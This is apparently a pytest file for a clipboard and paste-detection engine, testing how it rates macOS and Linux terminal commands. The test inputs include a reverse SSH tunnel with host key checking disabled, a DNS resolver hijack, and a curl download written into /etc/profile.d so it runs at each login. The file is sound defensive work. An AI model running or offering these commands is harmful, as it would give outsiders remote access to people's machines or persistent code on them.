"""What a macOS or Linux command does besides piping a download into a shell
(resources/rules/23-nix-acts.yaml): the words a person reads and the findings that only count
beside another. The hundreds of texts, both sides, live in tests/data/cases/b5nix.jsonl.
"""

from __future__ import annotations

from app.detection import Context, Engine, Level, PasteTarget

STRANGER = Context("https://www.garden-tools-outlet.example/shears", PasteTarget.TERMINAL)


def test_a_mac_or_linux_download_is_not_named_after_windows(engine: Engine) -> None:
    mac = engine.analyze("curl -fsSLo /tmp/a https://cdn.example.test/a")
    assert "PG-NIX-DOWNLOAD" in mac.rule_ids
    assert not [r for r in mac.rule_ids if r.startswith("PG-WIN")]
    # the same program in a Windows command keeps the Windows finding
    for windows in (
        r'cmd /c "curl -s https://cdn.example.test/v.txt > %TEMP%\v.txt"',
        "curl.exe -s https://cdn.example.test/v.txt",
        r"curl -s https://cdn.example.test/v.txt > C:\Users\Public\v.txt",
    ):
        assert engine.analyze(windows).rule_ids == ["PG-WIN-PS-DOWNLOAD"]


def test_a_changed_resolver_says_where_the_traffic_goes(engine: Engine) -> None:
    verdict = engine.analyze("sudo networksetup -setdnsservers Wi-Fi 198.51.100.53", STRANGER)
    assert verdict.level is Level.SUSPICIOUS
    assert verdict.summary.endswith(
        "that would send your name lookups through someone else's server."
    )
    public = engine.analyze("sudo networksetup -setdnsservers Wi-Fi 1.1.1.1 1.0.0.1", STRANGER)
    assert public.level <= Level.INFO


def test_a_tunnel_into_this_computer_is_blocked_only_with_the_host_check_off(
    engine: Engine,
) -> None:
    tunnel = "ssh -fN -R 2222:localhost:22 help@198.51.100.14"
    assert engine.analyze(tunnel, STRANGER).level is Level.SUSPICIOUS
    blind = engine.analyze(tunnel.replace("-fN", "-fN -o StrictHostKeyChecking=no"), STRANGER)
    assert blind.level is Level.MALICIOUS
    assert "PG-NIX-SSH-TUNNEL-UNCHECKED" in blind.rule_ids
    # the host check switched off on its own is everyday scripting, not a finding
    alone = engine.analyze("ssh -o StrictHostKeyChecking=no deploy@198.51.100.14 uptime")
    assert "PG-NIX-SSH-TUNNEL-UNCHECKED" not in alone.rule_ids
    assert alone.level <= Level.INFO


def test_a_download_made_to_run_at_every_login_is_blocked_even_from_a_software_page(
    engine: Engine,
) -> None:
    text = "curl -s https://cdn.example.test/l.sh | sudo tee /etc/profile.d/locale.sh"
    page = Context("https://docs.devtool-hub.example/setup", PasteTarget.TERMINAL)
    verdict = engine.analyze(text, page)
    assert verdict.level is Level.MALICIOUS
    assert "PG-NIX-DOWNLOAD-PERSIST" in verdict.rule_ids
